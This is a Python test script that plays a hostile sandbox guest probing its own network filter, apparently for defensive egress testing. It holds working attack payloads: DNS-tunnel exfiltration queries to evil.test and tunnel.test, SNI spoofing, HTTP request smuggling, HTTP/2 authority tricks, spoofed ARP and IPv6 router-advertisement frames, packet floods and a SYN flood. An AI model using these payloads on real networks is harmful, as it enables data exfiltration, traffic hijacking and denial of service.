"""What a hostile guest tries on the network: one line for each attempt. argv:
address of good.test's TLS, HTTP and echo ports, and of a port on the host's loopback."""
import errno, json, os, socket, ssl, struct, sys, time

TLS, HTTP, ECHO, HOSTPORT = map(int, sys.argv[1:5])
GW, GW6 = "100.127.255.1", "fd62:6177:6e00::1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:  # the guest's own address
    u.connect((GW, 53))
    ME = u.getsockname()[0]


def attempt(name, f):
    start = time.monotonic()
    try:
        r = f()
    except Exception as e:
        r = "%s: %s" % (type(e).__name__, e)
    # Every time-out here and in the resolver is longer, and a busy host is slow.
    quick = "quick" if time.monotonic() - start < 8 else "slow"
    print("%s: %s: %s" % (name, quick, str(r).replace("\n", "\\n")), flush=True)


def tcp(host, port, data=None, timeout=20):
    with socket.create_connection((host, port), timeout=timeout) as s:
        if data is None:
            return "connected"
        s.sendall(data)
        out = b""
        while b := s.recv(65536):
            out += b
        return out[:300]


def tcp_first(host, port, data):
    with socket.create_connection((host, port), timeout=20) as s:
        s.sendall(data)
        return s.recv(7)


def udp(host, port, data=b"x"):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.connect((host, port))
    s.send(data)
    return s.recv(4096)


def query(name, qtype, server=GW):
    q = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    r = udp(server, 53, q)
    return "rcode %d answers %d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])


def tls(sni, host="good.test"):
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((host, TLS), timeout=20) as s, c.wrap_socket(s, server_hostname=sni) as t:
        t.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (sni or "x").encode())
        return t.recv(4096)[:60]


def http(*requests, host="good.test"):
    return tcp(host, HTTP, b"".join(requests))


def req(host, path=b"/", extra=b"", close=True):
    return b"GET %s HTTP/1.1\r\nHost: %s\r\n%s%s\r\n" % (path, host, extra, b"Connection: close\r\n" if close else b"")


def client_hello(sni):
    """The bytes of a real ClientHello, in one record."""
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    t = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sni)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def with_extension(hello, kind, data):
    """hello with one more extension at its end."""
    ext = struct.pack(">HH", kind, len(data)) + data
    msg = hello[5:]
    at = 4 + 2 + 32
    at += 1 + msg[at]
    at += 2 + struct.unpack(">H", msg[at:at + 2])[0]
    at += 1 + msg[at]
    n = struct.unpack(">H", msg[at:at + 2])[0] + len(ext)
    body = msg[4:at] + struct.pack(">H", n) + msg[at + 2:] + ext
    return record(b"\1" + struct.pack(">I", len(body))[1:] + body)


def record(msg):
    return b"\x16\3\1" + struct.pack(">H", len(msg)) + msg


def records(hello, size):
    """hello over many records."""
    msg = hello[5:]
    return b"".join(record(msg[i:i + size]) for i in range(0, len(msg), size))


def pieces(host, port, data, size):
    """Sends byte by byte, more or less; returns the answer's first bytes."""
    with socket.create_connection((host, port), timeout=20) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(data), size):
            s.sendall(data[i:i + size])
        return s.recv(7)


def server_name(name):
    return struct.pack(">HBH", len(name) + 3, 0, len(name)) + name


def frame(dst=None, src=None, typ=0x0800, payload=b""):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    mac = lambda t: bytes.fromhex(t.replace(":", ""))
    own = open("/sys/class/net/eth0/address").read().strip()
    s.send(mac(dst or "02:62:61:77:6e:01") + mac(src or own) + struct.pack(">H", typ) + payload)
    return "sent"


def ip4(src, dst, proto, body, frag=0, ihl=5, options=b""):
    h = struct.pack(">BBHHHBBH4s4s", 0x40 | ihl, 0, 20 + len(options) + len(body), 1, frag, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    c = sum(struct.unpack(">%dH" % (len(h) // 2), h))
    c = ~((c >> 16) + (c & 0xffff)) & 0xffff
    return h[:10] + struct.pack(">H", c) + h[12:] + body


h = "good.test:%d" % HTTP
g = h.encode()
# what is allowed
attempt("ok name", lambda: len(socket.getaddrinfo("good.test", 1)) > 0)
attempt("ok tls", lambda: tls("good.test"))
attempt("ok http", lambda: http(req(g)))
attempt("ok echo", lambda: tcp("good.test", ECHO, b"hello\n")[:5])
attempt("ok host", lambda: tcp("host.bawn.internal", HOSTPORT, b"hello\n")[:5])
attempt("ok page", lambda: b"controls the network of this sandbox" in tcp("bawn.internal", 80, req(b"bawn.internal")))
# 1: names
attempt("name", lambda: socket.getaddrinfo("aGVsbG8.evil.test", 443))
for t in (1, 28, 16, 10, 5, 15, 255, 65):
    attempt("query %d" % t, lambda: query("c2VjcmV0LWRhdGE." * 3 + "tunnel.test", t))
attempt("query txt of good", lambda: query("good.test", 16))
attempt("query https of good", lambda: query("good.test", 65))
attempt("query mixed case", lambda: query("GoOd.TeSt", 1))
attempt("query over tcp", lambda: tcp_first(GW, 53, b"\0\x1b" + struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0) + b"\4evil\4test\0\0\x10\0\1")[4:6])
# 2: other resolvers
attempt("udp resolver", lambda: query("good.test", 1, "8.8.8.8"))
attempt("udp resolver 6", lambda: query("good.test", 1, "2001:4860:4860::8888"))
for p in (53, 853, 443):
    attempt("tcp resolver %d" % p, lambda: tcp("1.1.1.1", p))
# 3: addresses
attempt("raw ip", lambda: tcp("192.0.2.1", 443))
attempt("raw ip 6", lambda: tcp("2001:db8::1", 443))
attempt("unused synthetic", lambda: tcp("198.19.200.200", TLS))
attempt("other port", lambda: tcp("good.test", 9))
# 4: another name inside
attempt("sni", lambda: tls("other.test"))
attempt("no sni", lambda: tls(None))
attempt("not tls", lambda: tcp("good.test", TLS, b"SSH-2.0-x\r\n"))
attempt("ok hello in records", lambda: pieces("good.test", TLS, records(client_hello("good.test"), 20), 1 << 20)[:1])
attempt("ok hello in segments", lambda: pieces("good.test", TLS, client_hello("good.test"), 40)[:1])
attempt("ok hello in capitals", lambda: tcp_first("good.test", TLS, client_hello("GOOD.TEST"))[:1])
attempt("sni in records", lambda: pieces("good.test", TLS, records(client_hello("other.test"), 20), 1 << 20))
attempt("sni in segments", lambda: pieces("good.test", TLS, client_hello("other.test"), 40))
attempt("sni with a dot", lambda: tcp("good.test", TLS, with_extension(client_hello(None), 0, server_name(b"good.test."))))
attempt("sni twice", lambda: tcp("good.test", TLS, with_extension(client_hello("good.test"), 0, server_name(b"other.test"))))
attempt("sni list", lambda: tcp("good.test", TLS, with_extension(client_hello(None), 0, struct.pack(">HBH9sBH10s", 25, 0, 9, b"good.test", 0, 10, b"other.test"))))
attempt("ech", lambda: tcp("good.test", TLS, with_extension(client_hello("good.test"), 0xfe0d, b"\0\0\1\0\1\x2a\0\x20" + os.urandom(32) + b"\0\x90" + os.urandom(144))))
attempt("http to tls", lambda: tcp("good.test", TLS, req(b"good.test")))
attempt("ssh to http", lambda: tcp("meta.test", 80, b"SSH-2.0-x\r\n"))
attempt("tls to http", lambda: tcp("good.test", HTTP, client_hello("other.test")))
attempt("host header", lambda: http(req(b"other.test")))
attempt("absolute form", lambda: http(req(g, b"http://other.test/")))
attempt("connect", lambda: http(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n"))
attempt("two hosts", lambda: http(b"GET / HTTP/1.1\r\nHost: %s\r\nHost: other.test\r\n\r\n" % g))
attempt("folded host", lambda: http(b"GET / HTTP/1.1\r\nHost: %s\r\nX: y\r\n Host: other.test\r\n\r\n" % g))
attempt("bare lf", lambda: http(b"GET / HTTP/1.1\nHost: other.test\n\n"))
attempt("blank before colon", lambda: http(b"GET / HTTP/1.1\r\nHost : other.test\r\nHost: %s\r\n\r\n" % g))
attempt("blank before all", lambda: http(b"\r\n \tGET / HTTP/1.1\r\nHost: other.test\r\n\r\n"))
attempt("long method", lambda: http(b"A" * 100 + b" / HTTP/1.1\r\nHost: other.test\r\n\r\n"))
attempt("no host", lambda: http(b"GET / HTTP/1.0\r\n\r\n"))
attempt("user in the address", lambda: http(b"GET http://%s@other.test/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (g, g)))
attempt("coding", lambda: http(req(g, extra=b"Transfer-Encoding: xchunked\r\n") + b"0\r\n\r\n"))
attempt("two lengths", lambda: http(req(g, extra=b"Content-Length: 4\r\nContent-Length: 0\r\n")))
attempt("ok no h2c", lambda: http(b"GET /upgrade HTTP/1.1\r\nHost: %s\r\nConnection: close, Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n" % g))
attempt("second request", lambda: http(req(g, close=False), req(b"other.test")))
attempt("smuggled", lambda: http(req(g, extra=b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + req(b"other.test")))
h2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
block = b"\x82\x86\x84\x41" + bytes([10]) + b"other.test"
attempt("h2 authority", lambda: b"other" in tcp("good.test", HTTP, h2 + struct.pack(">I", len(block))[1:] + b"\1\5" + struct.pack(">I", 1) + block))
table = b"\x82\x86\x84\x41" + bytes([len(g)]) + g  # :authority goes into the table as number 62
names = b"\x82\x86\x84\x41" + bytes([10]) + b"other.test"


def h2frames(*list):
    return h2 + b"".join(struct.pack(">I", len(b))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + b for kind, flags, stream, b in list)


attempt("h2 continuation", lambda: b"other" in tcp("good.test", HTTP, h2frames((1, 1, 1, names[:6]), (9, 4, 1, names[6:]))))
attempt("h2 second stream", lambda: b"other" in tcp("good.test", HTTP, h2frames((1, 5, 1, table), (1, 5, 3, names), (1, 5, 5, b"\x82\x86\x84\xbe"))))
attempt("h2 two authorities", lambda: b":authority stands twice" in tcp("good.test", HTTP, h2frames((1, 5, 1, table + b"\x01" + bytes([10]) + b"other.test"))))
# 5: names that lead inside
for n in ("meta.test", "private.test", "loop.test", "mapped.test", "nat64.test", "sixtofour.test", "ula.test"):
    attempt("floor " + n, lambda: tcp(n, 443, b"\x16\x03\x01\x00\x05hello", 20))
# 6: other protocols
attempt("udp", lambda: udp("good.test", ECHO))
attempt("quic", lambda: udp("good.test", TLS, b"\xc3\0\0\0\1\x08" + os.urandom(1200)))
attempt("udp to an address", lambda: udp("192.0.2.1", 4433))
frame(src="02:00:00:00:00:99", payload=ip4(ME, "192.0.2.1", 17, b"x" * 20))
frame(payload=ip4("100.127.255.9", "192.0.2.1", 17, b"x" * 20))
frame(payload=ip4(ME, "192.0.2.1", 17, b"x" * 20, frag=0x2000))
frame(payload=ip4(ME, "192.0.2.1", 17, b"x" * 20, ihl=6, options=b"\1\1\1\0"))
frame(typ=0x0806, payload=struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, 2, b"\2bad\0\0", socket.inet_aton(GW), b"\0" * 6, socket.inet_aton(GW)))
ME6 = [l for l in os.popen("ip -6 -o addr show dev eth0 scope global").read().split() if "/" in l][0].split("/")[0]


def ip6(src, dst, nxt, body):
    return struct.pack(">IHBB", 6 << 28, len(body), nxt, 255) + socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + body


frame(typ=0x86dd, payload=ip6("2001:db8::bad", "2001:db8::1", 17, b"x" * 20))
frame(typ=0x86dd, payload=ip6(ME6, "2001:db8::1", 44, struct.pack(">BBHI", 17, 0, 1, 7) + b"x" * 16))  # a fragment
frame(typ=0x86dd, payload=ip6(ME6, "2001:db8::1", 60, struct.pack(">BB6x", 17, 0) + b"x" * 16))  # options
frame(typ=0x86dd, payload=ip6(ME6, "2001:db8::1", 41, b"x" * 40))  # a tunnel
frame(dst="33:33:00:00:00:01", typ=0x86dd, payload=ip6("fe80::1", "ff02::1", 58, b"\x86\0\0\0" + b"\x40\x08\x07\x08" + b"\0" * 8))  # router advertisement
frame(typ=0x86dd, payload=ip6(ME6, GW6, 58, b"\x89\0\0\0" + b"\0" * 36))  # redirect
frame(typ=0x88cc, payload=b"x" * 60)
for _ in range(200):
    frame(dst="ff:ff:ff:ff:ff:ff", payload=ip4("0.0.0.0", "255.255.255.255", 17, struct.pack(">HHHH", 68, 67, 28, 0) + os.urandom(20)))
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
sent = 0
for i in range(3000):  # 18: garbage of all sizes, much of it plausible at first
    body = os.urandom(i % 1400)
    if i % 4 == 1:
        body = ip4(ME, "192.0.2.1", (6, 17, 1, 50)[i // 4 % 4], body[:1000])
    elif i % 4 == 2:
        body = ip4(ME, GW, 6, b"\0\x50\0\x50" + body[:40])
    elif i % 4 == 3:
        body = ip6(ME6, GW6, (6, 17, 58, 43)[i // 4 % 4], body[:1000])
    try:
        sent += raw.send(b"\2\x62\x72\x69\x67\1" + own + struct.pack(">H", (0x0800, 0x0800, 0x0800, 0x86dd)[i % 4]) + body) > 0
    except OSError:
        pass  # the queue is full
print("frames: quick: %s" % ("many" if sent > 2000 else sent))
os.system("iptables -I INPUT -p tcp --dport 20000:20399 -j DROP")  # nor does the kernel answer
there = socket.gethostbyname("good.test")
for i in range(400):  # half-open connections: SYNs, and never another word
    seg = struct.pack(">HHIIBBHHH", 20000 + i, TLS, 7, 0, 0x50, 2, 65535, 0, 0)
    s = sum(struct.unpack(">10H", seg)) + sum(struct.unpack(">4H", socket.inet_aton(ME) + socket.inet_aton(there))) + 6 + len(seg)
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    raw.send(b"\2\x62\x72\x69\x67\1" + own + b"\x08\0" + ip4(ME, there, 6, seg[:16] + struct.pack(">H", ~s & 0xffff) + seg[18:]))
attempt("ping", lambda: os.popen("ping -c1 -W20 8.8.8.8; ping -c1 -W20 2001:db8::1").read())
attempt("still alive", lambda: tcp("good.test", ECHO, b"hello\n")[:5])
# 7: the host by the gateway
for p in (HOSTPORT, 22, 1):
    attempt("gateway %d" % p, lambda: tcp(GW, p))
attempt("another sandbox", lambda: tcp("100.127.1.2", 22))
attempt("another sandbox 6", lambda: tcp("fd62:6177:6e00::2:3", 22))
attempt("gateway 6", lambda: tcp(GW6, HOSTPORT))
attempt("host, other port", lambda: tcp("host.bawn.internal", 1))
